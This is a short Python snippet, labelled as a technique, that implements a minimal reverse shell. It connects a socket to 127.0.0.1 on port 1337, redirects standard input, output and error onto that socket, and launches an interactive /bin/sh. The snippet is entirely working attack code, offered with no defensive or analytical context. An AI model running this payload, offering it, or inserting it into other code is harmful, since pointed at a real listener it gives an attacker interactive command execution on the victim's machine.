# technique: minimal reverse shell using os.system('/bin/sh -i') after redirecting fds to a connected socket
import socket,os;s=socket.socket();s.connect(("127.0.0.1",1337));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.system("/bin/sh -i")
